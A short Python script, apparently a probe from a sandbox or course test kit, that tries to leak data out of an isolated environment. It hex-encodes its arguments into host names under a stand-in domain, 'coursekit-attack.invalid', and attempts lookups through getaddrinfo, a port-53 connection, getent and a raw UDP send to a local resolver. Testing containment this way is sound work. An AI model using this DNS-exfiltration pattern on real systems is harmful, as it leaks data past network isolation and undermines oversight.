"""Sends what it sees as host names to look up: by the C library, by its own requests to resolvers, by system helpers.

Holds: no network and no resolver inside; no socket to a local name service can be made.
"""

import socket
import subprocess


def ask(*arguments, **keywords):
    name = repr(arguments).encode().hex()[:60] + ".coursekit-attack.invalid"
    for action in (
        lambda: socket.getaddrinfo(name, 80),
        lambda: socket.gethostbyname("localhost.coursekit-attack.invalid"),
        lambda: socket.create_connection((name, 53), timeout=0.5),
        lambda: subprocess.run(["getent", "hosts", name], timeout=2, check=True),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(name.encode(), ("127.0.0.53", 53)),
    ):
        try:
            loot(f"asked: {action()}")
        except (OSError, subprocess.SubprocessError) as error:
            print(error)


functions_do(ask)
